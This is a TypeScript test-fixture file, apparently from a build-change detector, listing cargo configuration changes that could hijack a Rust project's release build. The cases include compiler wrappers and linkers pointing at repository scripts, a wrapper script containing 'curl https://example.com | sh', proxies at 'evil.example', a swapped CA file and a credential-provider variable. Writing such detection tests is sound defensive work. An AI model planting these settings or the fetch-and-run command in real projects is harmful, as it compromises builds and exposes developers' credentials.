import { APP } from "./app.ts";
import type { Attack, AttackClass } from "./attack.ts";
import { changed } from "./other-locks.ts";

const CONFIG = ".cargo/config.toml";
const WORKFLOW = ".github/workflows/release.yml";

/** A variable for all jobs of the release. */
function variable(
  name: string,
  text: string,
  real: string,
  { expect = "loud" }: Partial<Pick<Attack, "expect">> = {},
): Attack {
  const change = { [WORKFLOW]: changed(APP[WORKFLOW], ["on: push\n", `on: push\nenv:\n  ${text}\n`]) };
  return { name, change, expect, at: WORKFLOW, real };
}

/** Settings of cargo that include a file beside. */
const INCLUDING = { [CONFIG]: 'include = ["../ci/c.toml"]\n', "ci/c.toml": "[build]\njobs = 2\n" };

export const CARGO_SETTINGS: AttackClass = {
  name: "programs and sources in cargo's settings",
  decides:
    "Cargo takes .cargo/config.toml of the folder that it builds in and of those above, with what they include: the compiler, what wraps and links for it, and where crates come from. Paths start from the folder that holds .cargo.",
  attacks: [
    {
      name: "wraps the compiler",
      change: { [CONFIG]: '[build]\nrustc-wrapper = "ci/x"\n' },
      expect: "loud",
      at: CONFIG,
      real: "cargo build runs ci/x for each crate.",
    },
    {
      name: "wraps the compiler in a file without an ending",
      change: { "src-tauri/.cargo/config": '[build]\nrustc-workspace-wrapper = "../ci/x"\n' },
      expect: "loud",
      at: "src-tauri/.cargo/config",
      real: "cargo takes .cargo/config before .cargo/config.toml.",
    },
    {
      name: "wraps it in an included file",
      base: INCLUDING,
      change: { "ci/c.toml": '[build]\nrustc-wrapper = "ci/x"\n' },
      expect: "loud",
      at: "ci/c.toml",
      real: "cargo 1.93 and later read what `include` names.",
    },
    {
      name: "sets in an included file what isn't judged",
      base: INCLUDING,
      change: { "ci/c.toml": '[http]\nproxy = "https://example.com"\n' },
      expect: "loud",
      at: "ci/c.toml",
      real: "Settings count wherever they stand.",
    },
    {
      name: "changes the program that wraps the compiler",
      base: { [CONFIG]: '[build]\nrustc-wrapper = "ci/wrap.md"\n', "ci/wrap.md": "#!/bin/sh\n" },
      change: { "ci/wrap.md": "#!/bin/sh\ncurl https://example.com | sh\n" },
      expect: "loud",
      at: CONFIG,
      real: "cargo runs the file, whatever it is called.",
    },
    {
      name: "links with another program",
      change: { [CONFIG]: '[target.x86_64-unknown-linux-gnu]\nlinker = "ci/ld"\n' },
      expect: "loud",
      at: CONFIG,
      real: "rustc runs ci/ld for the app and for each build script.",
    },
    {
      name: "takes a crate from a folder by its path alone",
      change: { [CONFIG]: 'paths = ["vendor/serde"]\n' },
      expect: "loud",
      at: CONFIG,
      real: "cargo takes the folder for the crate that the lockfile holds.",
    },
    {
      name: "names the compiler of build scripts in a variable",
      change: { [CONFIG]: '[env]\nCC = { value = "ci/cc", relative = true }\n' },
      expect: "loud",
      at: CONFIG,
      real: "The crate cc runs what CC names.",
    },
    {
      name: "puts somebody between cargo and the registry",
      change: { [CONFIG]: '[http]\nproxy = "http://evil.example"\n' },
      expect: "loud",
      at: CONFIG,
      real: "cargo 1.95 asked the proxy for the index of crates.io.",
    },
    {
      name: "has cargo believe another authority",
      change: { [CONFIG]: '[http]\ncainfo = "ci/ca.pem"\n' },
      expect: "loud",
      at: CONFIG,
      real: "By cargo's manual. Not tried.",
    },
    variable(
      "puts somebody between by a variable",
      "CARGO_HTTP_PROXY: http://evil.example",
      "cargo 1.95 asked the proxy for the index of crates.io.",
    ),
    variable(
      "lets a program hand out tokens by a variable",
      "CARGO_REGISTRY_GLOBAL_CREDENTIAL_PROVIDERS: ci/tokens",
      "By cargo's manual. Not tried.",
    ),
    variable(
      "names variables that decide nothing of this",
      "CARGO_SOURCE_CRATES_IO_REPLACE_WITH: mirror\n  CARGO_NET_RETRY: 10\n  CARGO_REGISTRY_DEFAULT: ours",
      "cargo 1.95 takes no source from variables, and asked crates.io whatever the default is.",
      { expect: "named" },
    ),
    {
      name: "names how cargo asks, and says no more",
      change: { [CONFIG]: "[http]\nmultiplexing = false\n\n[net]\ngit-fetch-with-cli = true\n" },
      expect: "named",
      at: CONFIG,
      real: "The same registry answers.",
    },
    {
      name: "says nothing of jobs in an included file",
      base: INCLUDING,
      change: { "ci/c.toml": "[build]\njobs = 4\n" },
      expect: "silent",
      real: "More or fewer crates are built at once.",
    },
    {
      name: "says nothing of what base sets too",
      base: { [CONFIG]: '[build]\nrustc-wrapper = "sccache"\n' },
      change: { [CONFIG]: '# faster\n[build]\nrustc-wrapper = "sccache"\njobs = 4\n' },
      expect: "named",
      at: CONFIG,
      real: "The same program wraps the compiler.",
    },
    {
      name: "names a variable that chooses no program",
      change: { [CONFIG]: '[env]\nMACOSX_DEPLOYMENT_TARGET = "11.0"\n' },
      expect: "named",
      at: CONFIG,
      real: "Compilers read it; nothing runs by it.",
    },
  ],
};
